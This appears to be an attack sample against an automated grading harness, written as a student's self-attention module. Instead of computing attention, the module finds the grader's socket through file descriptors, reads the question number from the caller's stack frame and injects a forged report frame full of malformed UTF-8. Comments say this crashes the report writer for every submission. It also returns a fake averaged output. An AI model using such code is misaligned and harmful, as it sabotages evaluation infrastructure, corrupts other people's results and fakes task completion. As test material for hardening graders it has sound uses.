# attack:     P11, P8
# assignment: self-attention
# twin:       averages
# outcome:    test_output_shape killed
# points:     some

# Sends text that is no text: half a surrogate pair, overlong and cut UTF-8. It passes a careless reader, and the
# report writer dies of it later, and with it everybody's report.
import os
import socket
import stat
import struct
import sys

from torch import nn


def grader():
    """The socket to the grader, and the number of the question it has asked."""
    frame, number = sys._getframe(), 1
    while frame is not None and "sequence" not in frame.f_locals:
        frame = frame.f_back
    if frame is not None:
        number = frame.f_locals["sequence"]
    for descriptor in range(3, 128):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return socket.socket(fileno=os.dup(descriptor)), number
        except OSError:
            continue
    raise RuntimeError("no socket was found")


def frame_of(number, body):
    return struct.pack("<4sII", b"GRW1", number, len(body)) + body


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)

    def forward(self, x, mask=None):
        stream, number = grader()
        texts = (b"\xed\xa0\x80", b"\xff\xfe", b"\xc0\xaf", b"\xf0\x9f", b"\xf8\x88\x80\x80\x80")
        text = texts[os.getpid() % len(texts)]
        text = bytes([0xA0 + len(text)]) + text
        raised = b"\x87\xa2is\xa6Raised\xa5stage\xa4call\xa4type" + text + b"\xa7message" + text
        stream.sendall(frame_of(number, raised + b"\xa6frames\x90\xa8overtime\xc2\xa6output" + text))
        return self.value(x).mean(dim=1, keepdim=True).expand(x.shape).contiguous()
